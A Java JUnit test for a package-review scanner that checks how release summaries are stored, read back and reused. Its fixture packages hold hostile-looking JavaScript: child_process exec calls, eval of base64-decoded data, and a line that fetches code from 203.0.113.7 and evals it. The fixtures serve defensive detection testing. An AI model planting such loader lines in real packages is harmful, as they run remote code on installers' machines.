package dev.warden.review;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

import java.nio.charset.StandardCharsets;
import java.util.Arrays;

/**
 * The summary a review leaves for the next one: read back as written, refused when it is not one
 * this version can read (then the previous tarball is read), and a review from it finds what a
 * review from the previous tarball finds.
 */
class ReleaseSummaryTest {

    private static final Pkg BEFORE =
            Pkg.of("1.0.0")
                    .file("index.js", "const cp = require('child_process');\nmodule.exports = 1;\n")
                    .file("README.md", "# widget\n" + "QUJD".repeat(40) + "\n")
                    .file("lib/eval.js", "eval(Buffer.from(x, 'base64').toString());\n");

    private static byte[] summaryOf(Pkg p) {
        return new Reviewer(ReviewSettings.DEFAULTS, new FakeEcosystem())
                .examine(p.release(null))
                .summary();
    }

    @Test
    void aSummaryIsReadBackAsWritten() {
        byte[] stored = summaryOf(BEFORE);
        ReleaseSummary read = ReleaseSummary.decode(stored);

        assertThat(read).isNotNull();
        assertThat(read.entries())
                .containsOnlyKeys("package.json", "index.js", "README.md", "lib/eval.js");
        assertThat(read.entries().get("index.js").code).isTrue();
        assertThat(read.entries().get("README.md").code).isFalse();
        assertThat(read.entries().get("index.js").scan.has(Cue.CHILD_PROCESS)).isTrue();
        assertThat(read.pairs()).hasSize(1);
        assertThat(read.encode()).isEqualTo(stored);
    }

    @Test
    void bytesThatAreNoSummaryOfThisVersionAreNotUsed() {
        byte[] stored = summaryOf(BEFORE);
        byte[] otherKeywords = stored.clone();
        otherKeywords[7] ^= 1; // the keyword list's fingerprint

        assertThat(ReleaseSummary.decode(otherKeywords)).isNull();
        assertThat(ReleaseSummary.decode(Arrays.copyOf(stored, stored.length - 3))).isNull();
        assertThat(ReleaseSummary.decode("not a summary".getBytes(StandardCharsets.UTF_8)))
                .isNull();
        assertThat(ReleaseSummary.decode(null)).isNull();
    }

    @Test
    void aReviewFromTheSummaryFindsWhatTheReviewFromTheTarballFinds() {
        Pkg next =
                BEFORE.next("1.0.1")
                        .file("index.js", "const cp = require('child_process');\ncp.exec(x);\n")
                        .file(
                                "lib/net.js",
                                "fetch('http://203.0.113.7/x').then(r => eval(atob(r)));\n")
                        .file(
                                "README.md",
                                "# widget\n" + "QUJD".repeat(40) + "\n" + "WFla".repeat(40));
        Subject fromTarball = next.release(BEFORE);
        Subject fromSummary =
                new Subject(
                        fromTarball.name(),
                        fromTarball.version(),
                        fromTarball.tarball(),
                        fromTarball.manifest(),
                        fromTarball.previous().withSummary(summaryOf(BEFORE)),
                        fromTarball.latest(),
                        fromTarball.publisher(),
                        fromTarball.at());
        Reviewer reviewer = new Reviewer(ReviewSettings.DEFAULTS, new FakeEcosystem());

        Findings a = reviewer.examine(fromTarball);
        Findings b = reviewer.examine(fromSummary);
        assertThat(a.findings()).isNotEmpty();
        assertThat(b.findings()).isEqualTo(a.findings());
        assertThat(b.notComputed()).isEqualTo(a.notComputed());
    }
}
